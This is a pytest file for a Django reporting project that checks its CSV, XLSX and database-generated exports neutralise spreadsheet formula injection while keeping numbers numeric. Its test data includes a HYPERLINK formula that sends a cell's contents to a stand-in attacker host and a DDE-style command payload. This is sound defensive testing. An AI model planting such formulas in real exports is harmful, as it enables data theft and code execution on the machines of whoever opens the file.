"""No CSV or XLSX the project writes lets a spreadsheet run a cell as a formula, and
numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
import time_machine
from django.test import Client

from agencies.models import RegionalBranch
from initiatives.models import Indicator, Target, Value
from initiatives.periods import Period
from initiatives.selectors.values import values_csv
from initiatives.services.reports import report_create, report_save
from projectoffice.cell_safety import safe_cell
from projectoffice.table_download import table_response
from tests.factories import IndicatorFactory, ValueFactory

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+7 701 000", "'+7 701 000"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-6.7", "-6.7"),  # text that is a number is read as a number, not a formula
        ("+5", "+5"),
        ("1e-3", "1e-3"),
        ("crime.registered", "crime.registered"),
        ("a = b", "a = b"),
        ("", ""),
        (Decimal("-6.7"), Decimal("-6.7")),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_run_it(cell: object, written: object) -> None:
    assert safe_cell(cell) == written


@pytest.mark.django_db
def test_a_reports_narrative_comes_out_of_the_api_csv_as_text(client: Client, office, coordinator_astana) -> None:
    branch = RegionalBranch.objects.get(agency__code="gpo", region__kato="710000000")
    with time_machine.travel(datetime.datetime(2025, 10, 5, 10, 0, tzinfo=datetime.UTC)):
        report = report_create(branch=branch, kind="monthly", period=Period.parse("2025-09"), user=coordinator_astana)
        report_save(report=report, version=1, values={}, narrative=EVIL, user=coordinator_astana)
    client.force_login(office)

    response = client.get("/api/v1/reports/", {"format": "csv"})

    text = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["narrative"] for row in rows] == ["'" + EVIL]


@pytest.mark.django_db
def test_an_admin_export_writes_a_note_as_text_and_numbers_as_numbers(client: Client, office) -> None:
    Target.objects.create(
        indicator=Indicator.objects.get(code="crime.registered"),
        region=None,
        year=2026,
        target_value=Decimal(90000),
        note=EVIL,
    )
    client.force_login(office)
    form = client.get("/admin/initiatives/target/export/").context["form"]
    columns = {name: "on" for name, field in form.fields.items() if field.initial is True}

    response = client.post("/admin/initiatives/target/export/", {"format": "0", "resource": "0", **columns})

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(row["target_value"], row["note"]) for row in rows] == [("90000", "'" + EVIL)]


def test_a_dashboard_xlsx_holds_text_as_text_and_a_negative_change_as_a_number() -> None:
    response = table_response(
        ["kato", "name", "change_percent"],
        [["710000000", EVIL, Decimal("-6.7")], ["750000000", "-", Decimal("3")]],
        filename="dashboard",
        fmt="xlsx",
    )

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    name, change = sheet["B2"], sheet["C2"]
    assert (name.value, name.data_type) == ("'" + EVIL, "s")  # not a formula ("f")
    assert (change.value, change.data_type) == (-6.7, "n")
    assert sheet["B3"].value == "'-"


def test_a_dashboard_csv_neutralises_text_and_keeps_negative_numbers() -> None:
    response = table_response(["name", "change_percent"], [[EVIL, Decimal("-6.7")]], filename="d", fmt="csv")

    assert list(csv.reader(io.StringIO(response.content.decode()))) == [
        ["name", "change_percent"],
        ["'" + EVIL, "-6.7"],
    ]


@pytest.fixture
def evil_code(db: None) -> Value:
    """A KPI code no validator would let in, written past them (as raw SQL or an old row could)."""
    return ValueFactory(indicator=IndicatorFactory(code="=1+1"), value=5)


@pytest.mark.django_db
def test_the_values_csv_neutralises_codes_on_either_database(evil_code: Value) -> None:
    """On PostgreSQL the database writes this CSV (COPY): the rule is applied in its SQL."""
    text = b"".join(values_csv(Value.objects.filter(pk=evil_code.pk))).decode()

    rows = list(csv.DictReader(io.StringIO(text)))
    # The number in its KPI's places (a count: none), never behind a quote.
    assert evil_code.indicator.decimal_places == 0
    assert [(row["kpi"], row["value"]) for row in rows] == [("'=1+1", "5")]


@pytest.mark.django_db
def test_a_values_xlsx_export_neutralises_codes(evil_code: Value, tmp_path) -> None:
    from initiatives.services.exports import _write_xlsx

    _write_xlsx(tmp_path / "v.xlsx", Value.objects.filter(pk=evil_code.pk), 10)

    sheet = openpyxl.load_workbook(tmp_path / "v.xlsx").worksheets[0]
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    assert (row["kpi"].value, row["kpi"].data_type) == ("'=1+1", "s")
    assert (row["value"].value, row["value"].data_type) == (5, "n")


@pytest.mark.postgres
@pytest.mark.django_db
@pytest.mark.parametrize(
    "cell", [EVIL, "+7 701", "-6.7", "+5", "1e-3", "-", "@x", "\t=1", "\r=1", "crime.registered", ""]
)
def test_the_sql_rule_is_the_python_rule(cell: str) -> None:
    from django.db import connection

    from projectoffice.cell_safety import safe_cell_sql

    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {safe_cell_sql('c')} FROM (SELECT %s::text AS c) AS t", [cell])  # noqa: S608
        assert cursor.fetchone()[0] == safe_cell(cell)
